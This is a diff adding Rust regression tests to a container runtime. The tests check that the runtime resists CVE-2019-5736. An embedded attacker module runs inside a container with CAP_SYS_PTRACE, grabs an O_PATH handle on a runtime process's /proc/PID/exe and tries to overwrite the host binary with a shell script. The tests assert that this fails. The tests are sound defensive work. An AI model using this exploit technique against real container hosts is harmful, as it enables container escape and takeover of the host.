@@ -265,6 +265,220 @@ fn runtime_binary_cannot_be_reached_from_the_container() {
     env.assert_gone("exe", &b);
 }
 
+/// The variable that makes `exe_attacker` attack: the directory it shares
+/// with the test, as the container sees it.
+const ATTACK_ENV: &str = "MYSHIM_TEST_EXE_ATTACK";
+/// A copy of this test binary in the container, running only `exe_attacker`.
+const ATTACKER: [&str; 7] = [
+    "/attacker",
+    "--ignored",
+    "--exact",
+    "exe_attacker",
+    "--nocapture",
+    "--test-threads",
+    "1",
+];
+
+/// CVE-2019-5736 for real, on the waiting init: an exec'd process with
+/// CAP_SYS_PTRACE takes an O_PATH handle on /proc/1/exe before `start`, and
+/// writes through it at once and again once no runtime process is left.
+#[test]
+fn runtime_binary_survives_a_kept_handle_on_the_waiting_init() {
+    if !is_root() {
+        return;
+    }
+    let env = Env::with_own_binary();
+    let before = sha256(&env.bin);
+    let (b, shared) = attack_bundle(&env, "exeinit", &["sleep", "100"]);
+    env.ok(&["create", "-b", b.arg(), "exeinit"]);
+    let var = format!("{ATTACK_ENV}=/attack");
+    let mut exec = vec!["exec", "-d", "-e", &var, "exeinit"];
+    exec.extend(ATTACKER);
+    env.ok(&exec);
+    assert_eq!(
+        wait_for_file(&shared.join("grabbed")),
+        "1",
+        "the attacker took another process"
+    );
+    env.ok(&["start", "exeinit"]);
+    finish_attack(&env, &shared, &before);
+    env.ok(&["delete", "-f", "exeinit"]);
+    env.assert_gone("exeinit", &b);
+}
+
+/// CVE-2019-5736 for real, on the helper `exec` starts in the container's
+/// pid namespace: the container's own process (CAP_SYS_PTRACE) watches for
+/// it while the test execs `true` until it has caught one.
+#[test]
+fn runtime_binary_survives_a_kept_handle_on_an_exec_helper() {
+    if !is_root() {
+        return;
+    }
+    let env = Env::with_own_binary();
+    let before = sha256(&env.bin);
+    let (mut b, shared) = attack_bundle(&env, "exehelper", &ATTACKER);
+    b.edit(|c| {
+        c["process"]["env"]
+            .as_array_mut()
+            .unwrap()
+            .push(json!(format!("{ATTACK_ENV}=/attack")))
+    });
+    env.ok(&["run", "-d", "-b", b.arg(), "exehelper"]);
+    let grabbed = shared.join("grabbed");
+    for _ in 0..200 {
+        if grabbed.exists() {
+            break;
+        }
+        env.ok(&["exec", "exehelper", "true"]);
+    }
+    let pid = wait_for_file(&grabbed);
+    assert_ne!(pid, "1", "the attacker took the container's init");
+    finish_attack(&env, &shared, &before);
+    env.ok(&["delete", "-f", "exehelper"]);
+    env.assert_gone("exehelper", &b);
+}
+
+/// A container with CAP_SYS_PTRACE, a copy of this test binary as
+/// /attacker, and a host directory shared at /attack.
+fn attack_bundle(env: &Env, id: &str, args: &[&str]) -> (Bundle, std::path::PathBuf) {
+    let mut b = env.bundle(id, args);
+    let shared = env.dir.path().join(format!("{id}-shared"));
+    std::fs::create_dir(&shared).unwrap();
+    std::fs::create_dir(b.rootfs().join("attack")).unwrap();
+    std::fs::copy(std::env::current_exe().unwrap(), b.rootfs().join("attacker")).unwrap();
+    b.edit(|c| {
+        for set in ["bounding", "effective", "permitted"] {
+            c["process"]["capabilities"][set]
+                .as_array_mut()
+                .unwrap()
+                .push(json!("CAP_SYS_PTRACE"));
+        }
+        let mounts = c["mounts"].as_array_mut().unwrap();
+        mounts.push(json!({"destination": "/attack", "type": "bind", "source": shared, "options": ["rbind"]}));
+    });
+    (b, shared)
+}
+
+/// Every runtime process has exited (the binary is no longer busy): the
+/// attacker writes again. Neither write may land.
+fn finish_attack(env: &Env, shared: &std::path::Path, before: &str) {
+    std::fs::write(shared.join("go"), "").unwrap();
+    let result = wait_for_file(&shared.join("result"));
+    eprintln!("attacker: {result}");
+    assert!(result.contains("late:"), "the attack did not run: {result}");
+    assert!(!result.contains("wrote"), "{result}");
+    assert_eq!(sha256(&env.bin), before, "the runtime binary changed: {result}");
+}
+
+fn sha256(path: &std::path::Path) -> String {
+    let out = std::process::Command::new("sha256sum").arg(path).output().unwrap();
+    assert!(out.status.success());
+    String::from_utf8_lossy(&out.stdout)
+        .split_whitespace()
+        .next()
+        .unwrap()
+        .to_string()
+}
+
+/// The contents of `path` once it exists (bounded: the attacker gives up
+/// after a minute too).
+fn wait_for_file(path: &std::path::Path) -> String {
+    let deadline = std::time::Instant::now() + Duration::from_secs(90);
+    loop {
+        if let Ok(text) = std::fs::read_to_string(path) {
+            return text;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "{} never appeared",
+            path.display()
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+/// The attacker of the CVE-2019-5736 tests, run inside their containers as
+/// a copy of this binary; elsewhere (no `ATTACK_ENV`) it does nothing.
+#[test]
+#[ignore = "run inside a container by the CVE-2019-5736 tests"]
+fn exe_attacker() {
+    if let Ok(dir) = std::env::var(ATTACK_ENV) {
+        attacker::run(std::path::Path::new(&dir));
+    }
+}
+
+mod attacker {
+    use std::os::fd::{AsRawFd, OwnedFd};
+    use std::os::unix::fs::MetadataExt;
+    use std::path::Path;
+    use std::time::{Duration, Instant};
+
+    /// Grabs the exe of a runtime process, writes through it, waits for the
+    /// test's go, writes again after reopening, and reports to `dir`.
+    pub fn run(dir: &Path) {
+        // Written whole, then renamed: the test reads it as soon as it exists.
+        let report = |name: &str, text: String| {
+            std::fs::write(dir.join("partial"), text).unwrap();
+            std::fs::rename(dir.join("partial"), dir.join(name)).unwrap();
+        };
+        let Some((pid, handle)) = grab_runtime_exe() else {
+            return report("result", "gave up: no runtime process seen\n".into());
+        };
+        report("grabbed", pid.to_string());
+        let early = write_through(&handle);
+        let deadline = Instant::now() + Duration::from_secs(60);
+        while !dir.join("go").exists() && Instant::now() < deadline {
+            std::thread::sleep(Duration::from_millis(10));
+        }
+        let late = write_through(&handle);
+        report("result", format!("early: {early}\nlate: {late}\n"));
+    }
+
+    /// Polls /proc until a process runs neither busybox nor this binary:
+    /// a runtime process. Returns its pid and an O_PATH fd on its exe.
+    fn grab_runtime_exe() -> Option<(i32, OwnedFd)> {
+        let id = |m: std::fs::Metadata| (m.dev(), m.ino());
+        let ours = [
+            id(std::fs::metadata("/proc/self/exe").unwrap()),
+            id(std::fs::metadata("/bin/busybox").unwrap()),
+        ];
+        let deadline = Instant::now() + Duration::from_secs(60);
+        while Instant::now() < deadline {
+            for pid in pids() {
+                let path = format!("/proc/{pid}/exe");
+                let Ok(fd) = nix::fcntl::open(path.as_str(), nix::fcntl::OFlag::O_PATH, nix::sys::stat::Mode::empty())
+                else {
+                    continue;
+                };
+                // SAFETY: a fresh fd from open.
+                let fd = unsafe { <OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
+                let meta = std::fs::metadata(format!("/proc/self/fd/{}", fd.as_raw_fd()));
+                if meta.is_ok_and(|m| !ours.contains(&id(m))) {
+                    return Some((pid, fd));
+                }
+            }
+        }
+        None
+    }
+
+    fn pids() -> Vec<i32> {
+        let entries = std::fs::read_dir("/proc").unwrap().flatten();
+        entries.filter_map(|e| e.file_name().to_str()?.parse().ok()).collect()
+    }
+
+    /// Reopens the handle for writing, as the original exploit did.
+    fn write_through(handle: &OwnedFd) -> String {
+        let path = format!("/proc/self/fd/{}", handle.as_raw_fd());
+        match std::fs::OpenOptions::new().write(true).open(path) {
+            Ok(mut f) => match std::io::Write::write_all(&mut f, b"#!/bin/sh\necho pwned\n") {
+                Ok(()) => "wrote".into(),
+                Err(e) => format!("write failed: {e}"),
+            },
+            Err(e) => format!("open failed: {e}"),
+        }
+    }
+}
+
 /// A bundle whose /dev is a bind of `fakedev`, with `name` in it a symlink
 /// to a host procfs file: what CVE-2025-31133 and CVE-2025-52565 plant.
 fn bundle_with_planted_dev(env: &Env, id: &str, name: &str, args: &[&str]) -> Bundle {
